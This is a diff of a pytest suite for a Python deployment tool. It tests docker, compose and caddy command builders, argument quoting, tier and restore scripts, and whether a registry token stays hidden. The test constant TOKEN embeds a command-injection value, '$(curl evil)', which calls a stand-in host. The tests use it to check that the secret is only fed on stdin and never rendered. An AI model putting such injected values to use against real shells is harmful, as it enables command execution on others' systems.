@@ -8,8 +8,8 @@ import shlex
 import pytest
 
 from fabfile import commands as cmds
-from fabfile.commands import Command, Compose, Stdin, quote_path
-from fabfile.config import HostConfig, ResolvedService
+from fabfile.commands import Command, Compose, Stdin, TierService, quote_path
+from fabfile.config import HostConfig, ProxyConfig
 
 NASTY = [
     "with space",
@@ -26,6 +26,9 @@ NASTY = [
     "",
 ]
 
+TOKEN = "s3cr3t-token; $(curl evil)"
+LISTING = ("docker", "image", "ls", "--no-trunc", "--format", "{{.Repository}}:{{.Tag}} {{.ID}}")
+
 
 def H(**kw) -> HostConfig:
     base = dict(name="t", dir="~/app", compose_files=("docker-compose.yaml",),
@@ -38,8 +41,17 @@ def words(c: Command) -> list[str]:
     return shlex.split(c.render())
 
 
-def svc(name="server", health_timeout=60, pre_stop_hook="", stop_timeout=None, drain=True):
-    return ResolvedService(name, health_timeout, pre_stop_hook, stop_timeout, drain)
+def program_args(c: Command, name: str) -> tuple[str, ...]:
+    """The arguments of a ``sh -c SCRIPT NAME ARGS...`` command, after checking its head."""
+    assert c.argv[:2] == ("sh", "-c") and c.argv[2] == cmds.script(name) and c.argv[3] == name
+    return c.argv[4:]
+
+
+def server(**kw) -> TierService:
+    base = dict(name="server", target=2, health_timeout=60, stop_timeout=None, old=("aaa", "bbb"),
+                held=("server:8080", "172.18.0.5:8080", "172.18.0.6:8080"), hook="")
+    base.update(kw)
+    return TierService(**base)
 
 
 # --- Command.render / quoting ------------------------------------------------------------------
@@ -52,12 +64,12 @@ def test_every_argv_value_is_one_shell_word(value):
 
 @pytest.mark.parametrize("value", [v for v in NASTY if v])
 def test_service_name_and_hook_survive_the_builders(value):
-    c = Compose(H()).scale(value, 2)
+    assert words(Compose(H()).up([value]))[-1] == value
+    assert words(cmds.exec_("abc123", "sh", "-c", value)) == ["docker", "exec", "abc123", "sh", "-c", value]
+    c = cmds.tier(H(), "native", "cad", [server(name=value, hook=value)])
     w = words(c)
-    assert w[-1] == value
-    assert f"{value}=2" in w
-    hook = cmds.pre_stop_hook("abc123", value)
-    assert words(hook) == ["docker", "exec", "abc123", "sh", "-c", value]
+    assert w[w.index(value):w.index(value) + 7] == [value, "2", "60", "", "aaa,bbb",
+                                                      "server:8080,172.18.0.5:8080,172.18.0.6:8080", value]
 
 
 def test_render_without_cwd_is_just_the_argv():
@@ -85,12 +97,6 @@ def test_quote_path(path, rendered):
     assert quote_path(path) == rendered
 
 
-def test_and_then_chains_with_and():
-    c = cmds.stop(["a", "b"]).and_then(cmds.remove(["a", "b"]))
-    assert c.render() == "docker stop a b && docker rm a b"
-    assert cmds.stop_and_remove(["a", "b"], 5).render() == "docker stop --time 5 a b && docker rm a b"
-
-
 def test_and_then_keeps_the_original_and_chains_several():
     first = Command(("true",), cwd="~/x")
     chained = first.and_then(Command(("a",)), Command(("b", "c d")))
@@ -104,6 +110,36 @@ def test_describe_is_render_plus_stdin_label():
     c = Command(("sh", "-s"), stdin=Stdin("echo hi", "script.sh"))
     assert c.describe() == "sh -s  < script.sh"
     assert Command(("ls",)).describe() == "ls"
+
+
+def test_limit_runs_the_argv_under_timeout():
+    c = Command(("docker", "compose", "pull"), cwd="~/app", limit=300)
+    assert c.render() == "cd ~/app && timeout --kill-after=10 300 docker compose pull"
+    assert c.describe() == c.render()
+    assert c.argv == ("docker", "compose", "pull")  # the argv itself is unchanged
+    assert Command(("ls",), limit=None).render() == "ls"
+
+
+# --- host programs: `sh -c SCRIPT NAME ARGS` ------------------------------------------------------
+
+def test_host_program_sends_the_script_text_but_describes_it_by_name():
+    c = cmds.host_program("survey.sh", "caddy", "a b", cwd="~/app")
+    text = cmds.script("survey.sh")
+    assert c.argv == ("sh", "-c", text, "survey.sh", "caddy", "a b")
+    assert words(c) == ["cd", "~/app", "&&", "sh", "-c", text, "survey.sh", "caddy", "a b"]
+    assert c.describe() == "cd ~/app && sh -c '<fabfile/remote/survey.sh>' survey.sh caddy 'a b'"
+    assert text.splitlines()[0] not in c.describe()
+    assert c.stdin is None  # stdin stays free
+
+
+def test_survey_args():
+    h = H(compose_files=("a.yaml", "b c.yaml"), project_name="remi",
+          proxy=ProxyConfig(service="edge", config="/etc/caddy/caddy.json", admin="127.0.0.1:2999"))
+    c = cmds.survey(h)
+    assert program_args(c, "survey.sh") == ("edge", "/etc/caddy/caddy.json", "127.0.0.1:2999",
+                                            "-f", "a.yaml", "-f", "b c.yaml", "-p", "remi")
+    assert c.cwd == "~/app"
+    assert program_args(cmds.survey(H(proxy=ProxyConfig(service=""))), "survey.sh")[0] == ""
 
 
 # --- docker compose ----------------------------------------------------------------------------
@@ -130,10 +166,8 @@ def test_compose_commands_run_in_the_host_dir():
 
 
 @pytest.mark.parametrize("method, args, tail", [
-    ("config_json", (), ("config", "--format", "json")),
     ("pull", (["server", "redis"],), ("pull", "--quiet", "server", "redis")),
     ("up", (["mongodb", "redis"],), ("up", "--detach", "--no-deps", "mongodb", "redis")),
-    ("scale", ("server", 4), ("up", "--detach", "--no-deps", "--no-recreate", "--scale", "server=4", "server")),
     ("ids", ("server",), ("ps", "--quiet", "--status", "running", "server")),
     ("recreate", ("caddy",), ("up", "--detach", "--no-deps", "--force-recreate", "caddy")),
 ])
@@ -149,40 +183,46 @@ def test_ids_all_states():
     assert Compose(H()).ids("server", running_only=False).argv[-3:] == ("ps", "--quiet", "server")
 
 
-def test_scale_keeps_old_containers_and_dependencies():
-    argv = Compose(H()).scale("profile-server", 6).argv
-    i = argv.index("up")
-    assert argv[i:] == ("up", "--detach", "--no-deps", "--no-recreate", "--scale", "profile-server=6",
-                        "profile-server")
-    assert "--force-recreate" not in argv
-
-
-# --- login: the secret never shows ------------------------------------------------------------
+# --- login and pull: the secret never shows ---------------------------------------------------
 
 def test_login_puts_the_password_only_on_stdin():
-    pw = "s3cr3t-token; $(curl evil)"
-    c = cmds.login("ghcr.io", "bot", pw, "GH_PACKAGES_TOKEN")
+    c = cmds.login("ghcr.io", "bot", TOKEN, "GH_PACKAGES_TOKEN")
     assert c.argv == ("docker", "login", "--username", "bot", "--password-stdin", "ghcr.io")
-    assert c.stdin is not None and c.stdin.text == pw and c.stdin.secret
-    assert pw not in c.render()
-    assert "s3cr3t" not in c.describe()
-    assert "s3cr3t" not in repr(c.argv)
+    assert c.stdin is not None and c.stdin.text == TOKEN and c.stdin.secret
+    assert "s3cr3t" not in c.render() + c.describe() + repr(c)
     assert c.describe().endswith("< $GH_PACKAGES_TOKEN (secret, on stdin)")
+
+
+def test_pull_with_credentials_logs_in_pulls_and_lists_in_one_command():
+    h = H(compose_files=("a.yaml",), project_name="remi")
+    c = cmds.pull(h, ["server", "redis"], ("ghcr.io", "bot", TOKEN, "GH_PACKAGES_TOKEN"), limit=300)
+    assert c.render() == (
+        "docker login --username bot --password-stdin ghcr.io"
+        " && cd ~/app && timeout --kill-after=10 300 docker compose -f a.yaml -p remi pull --quiet server redis"
+        " && " + shlex.join(LISTING))
+    assert c.stdin is not None and c.stdin.text == TOKEN and c.stdin.secret
+    assert c.describe() == c.render() + "  < $GH_PACKAGES_TOKEN (secret, on stdin)"
+    assert "s3cr3t" not in c.render() + c.describe() + repr(c)
+    assert all(step.stdin is None for step in c.then)  # the token is fed once, to login
+
+
+def test_pull_without_credentials():
+    c = cmds.pull(H(), ["server"])
+    assert c.render() == ("cd ~/app && timeout --kill-after=10 900 docker compose -f docker-compose.yaml pull"
+                          " --quiet server && " + shlex.join(LISTING))
+    assert c.stdin is None
+    assert c.describe() == c.render()
 
 
 # --- plain docker and helpers ---------------------------------------------------------------------
 
-def test_stop_remove_inspect_logs_prune():
-    assert cmds.stop(["a"]).argv == ("docker", "stop", "a")
-    assert cmds.stop(["a", "b"], 0).argv == ("docker", "stop", "--time", "0", "a", "b")
-    assert cmds.remove(["a"]).argv == ("docker", "rm", "a")
-    assert cmds.inspect(["a", "b"]).argv == ("docker", "inspect", "a", "b")
-    assert words(cmds.inspect(["a"], "{{json .State.Health}}")) == \
-        ["docker", "inspect", "--format", "{{json .State.Health}}", "a"]
-    assert cmds.logs("a", 5).argv == ("docker", "logs", "--tail", "5", "a")
+def test_image_listing_prune_remove_and_signal():
+    assert cmds.image_ids().argv == LISTING
+    assert words(cmds.image_ids()) == list(LISTING)
     assert cmds.image_prune().argv == ("docker", "image", "prune", "--force")
-    assert words(cmds.image_ids()) == ["docker", "image", "ls", "--no-trunc", "--format",
-                                       "{{.Repository}}:{{.Tag}} {{.ID}}"]
+    assert cmds.remove_file("/tmp/x y").argv == ("rm", "-f", "/tmp/x y")
+    assert cmds.signal_process("4242").argv == ("kill", "-TERM", "4242")
+    assert cmds.signal_process("4242", "KILL").render() == "kill -KILL 4242"
 
 
 def test_exec_is_interactive_only_with_stdin():
@@ -191,16 +231,25 @@ def test_exec_is_interactive_only_with_stdin():
     assert c.argv == ("docker", "exec", "--interactive", "c", "cat")
 
 
+@pytest.mark.parametrize("host, name", [
+    (H(), "__app"),
+    (H(dir="~/remilia/staging", project_name="remi"), "__remilia_staging_remi"),
+    (H(dir="/srv/app", project_name=""), "_srv_app"),
+])
+def test_lock_name_is_a_file_name(host, name):
+    assert cmds.lock_name(host) == name
+
+
 @pytest.mark.parametrize("builder, args, script, argv_tail", [
     (cmds.install_plugin, ("https://x/y", "ab" * 32, "v0.13"), "install_plugin.sh",
      ("https://x/y", "ab" * 32, "v0.13")),
     (cmds.install_plugin, ("https://x/y", "ab" * 32, "v0.13", "/tmp/up"), "install_plugin.sh",
      ("https://x/y", "ab" * 32, "v0.13", "/tmp/up")),
     (cmds.plugin_version_ok, ("v0.13", "ab" * 32), "plugin_version.sh", ("v0.13", "ab" * 32)),
-    (lambda: cmds.lock(H(), "acquire", "me@laptop pid 7 deploy", 120), (), "lock.sh",
+    (cmds.lock, (H(), "acquire", "me@laptop pid 7 deploy", 120), "lock.sh",
      ("acquire", "__app", "me@laptop pid 7 deploy", "120")),
-    (lambda: cmds.lock(H(), "release"), (), "lock.sh", ("release", "__app")),
-    (lambda: cmds.lock(H(), "show"), (), "lock.sh", ("show", "__app")),
+    (cmds.lock, (H(), "release"), "lock.sh", ("release", "__app")),
+    (cmds.lock, (H(), "show"), "lock.sh", ("show", "__app")),
 ])
 def test_host_scripts_are_fed_on_stdin(builder, args, script, argv_tail):
     c = builder(*args)
@@ -210,33 +259,88 @@ def test_host_scripts_are_fed_on_stdin(builder, args, script, argv_tail):
     assert c.stdin.text.startswith(f"# {script}")
     assert c.stdin.text not in c.render()
     assert c.describe().endswith(f"< fabfile/remote/{script}")
-@pytest.mark.parametrize("config, adapt, validate, reload", [
+
+
+@pytest.mark.parametrize("config, validate, reload", [
     ("/etc/caddy/Caddyfile",
-     ("caddy", "adapt", "--config", "/etc/caddy/Caddyfile", "--adapter", "caddyfile"),
      ("caddy", "validate", "--config", "/etc/caddy/Caddyfile", "--adapter", "caddyfile"),
      ("caddy", "reload", "--config", "/etc/caddy/Caddyfile", "--adapter", "caddyfile", "--force")),
     ("/etc/caddy/caddy.json",
-     ("cat", "/etc/caddy/caddy.json"),
      ("caddy", "validate", "--config", "/etc/caddy/caddy.json"),
      ("caddy", "reload", "--config", "/etc/caddy/caddy.json", "--force")),
 ])
-def test_caddy_commands(config, adapt, validate, reload):
-    assert cmds.caddy_adapt("cad", config).argv == ("docker", "exec", "cad") + adapt
+def test_caddy_commands(config, validate, reload):
     assert cmds.caddy_validate("cad", config).argv == ("docker", "exec", "cad") + validate
     assert cmds.caddy_reload("cad", config).argv == ("docker", "exec", "cad") + reload
     assert "--force" not in cmds.caddy_reload("cad", config, force=False).argv
 
 
-def test_caddy_load_json_reads_stdin():
-    c = cmds.caddy_load_json("cad", '{"apps": {}}', "pinned config")
-    assert c.argv == ("docker", "exec", "--interactive", "cad", "caddy", "reload", "--config", "/dev/stdin",
-                      "--force")
-    assert c.stdin.text == '{"apps": {}}'
-    assert '{"apps"' not in c.describe() and c.describe().endswith("< pinned config")
+# --- tier.sh and restore.sh --------------------------------------------------------------------
+
+def test_tier_service_args_in_tier_sh_order():
+    assert server().args() == ("server", "2", "60", "", "aaa,bbb", "server:8080,172.18.0.5:8080,172.18.0.6:8080",
+                               "")
+    assert server(stop_timeout=15, old=(), held=(), hook="sleep 5").args() == (
+        "server", "2", "60", "15", "", "", "sleep 5")
+
+
+def test_tier_args_count_services_then_compose_flags():
+    h = H(compose_files=("a.yaml", "b.yaml"), project_name="remi", env_file=".env", no_healthcheck_wait=7,
+          proxy=ProxyConfig(admin="localhost:2019", drain_timeout=45))
+    identity = TierService("identity", 1, 30, 20, (), (), "")
+    c = cmds.tier(h, "docker-rollout", "cad", [server(), identity], ("remilia_default",))
+    assert program_args(c, "tier.sh") == (
+        "docker-rollout", "cad", "localhost:2019", "45", "7", "2",
+        *server().args(), *identity.args(),
+        "-f", "a.yaml", "-f", "b.yaml", "-p", "remi", "--env-file", ".env")
+    assert c.cwd == "~/app"
+    assert c.stdin is not None and c.stdin.text == "" and not c.stdin.secret
+    assert c.describe().startswith("cd ~/app && sh -c '<fabfile/remote/tier.sh>' tier.sh docker-rollout cad ")
+
+
+def test_tier_matches_the_documented_command_line():
+    h = H(compose_files=("x.yaml",), no_healthcheck_wait=0, proxy=ProxyConfig(drain_timeout=5))
+    c = cmds.tier(h, "native", "PROXY", [TierService("server", 1, 5, None, ("abc",), ("server:8080",))])
+    assert program_args(c, "tier.sh") == tuple(shlex.split(
+        "native PROXY localhost:2019 5 0 1 server 1 5 '' abc server:8080 '' -f x.yaml"))
+
+
+def test_tier_dry_run_output_has_placeholders_on_the_proxy_network():
+    c = cmds.tier(H(), "native", "cad", [server(target=3), TierService("identity", 1, 30, None, (), ())],
+                  ("remilia_default", "edge"))
+    assert c.dry_run_output == (
+        "pid 0", "pinned",
+        "new server <new-server-1> remilia_default=<ip-of-new-server-1>",
+        "new server <new-server-2> remilia_default=<ip-of-new-server-2>",
+        "new server <new-server-3> remilia_default=<ip-of-new-server-3>",
+        "new identity <new-identity-1> remilia_default=<ip-of-new-identity-1>",
+        "healthy after 0s", "switched", "drained after 0s, 0 in flight at most", "retired")
+
+
+def test_tier_dry_run_output_docker_rollout_replaces_each_old_container():
+    c = cmds.tier(H(), "docker-rollout", "cad", [server(target=5), TierService("identity", 2, 30, None, (), ())])
+    new = [line for line in c.dry_run_output if line.startswith("new ")]
+    assert new == ["new server <new-server-1> net=<ip-of-new-server-1>",   # as many as old, not target
+                   "new server <new-server-2> net=<ip-of-new-server-2>",
+                   "new identity <new-identity-1> net=<ip-of-new-identity-1>",  # not running: target
+                   "new identity <new-identity-2> net=<ip-of-new-identity-2>"]
+
+
+@pytest.mark.parametrize("detach, mode, output", [
+    (True, "detach", ("restore queued",)),
+    (False, "wait", ("restored /etc/caddy/Caddyfile",)),
+])
+def test_restore_detach_or_wait(detach, mode, output):
+    h = H(project_name="remi")
+    c = cmds.restore(h, "cad", ["aaa", "bbb"], detach, 40)
+    assert program_args(c, "restore.sh") == (mode, "__app_remi", "cad", "/etc/caddy/Caddyfile", "40", "aaa", "bbb")
+    assert c.cwd == "~/app" and c.stdin is None
+    assert c.dry_run_output == output
 
 
 def test_builders_are_pure_values():
     h = H()
-    assert Compose(h).scale("server", 2) == Compose(dataclasses.replace(h)).scale("server", 2)
+    assert cmds.tier(h, "native", "cad", [server()]) == cmds.tier(dataclasses.replace(h), "native", "cad", [server()])
+    assert Compose(h).up(["server"]) == Compose(dataclasses.replace(h)).up(["server"])
     with pytest.raises(dataclasses.FrozenInstanceError):
-        Compose(h).scale("server", 2).argv = ()  # type: ignore[misc]
+        Compose(h).up(["server"]).argv = ()  # type: ignore[misc]
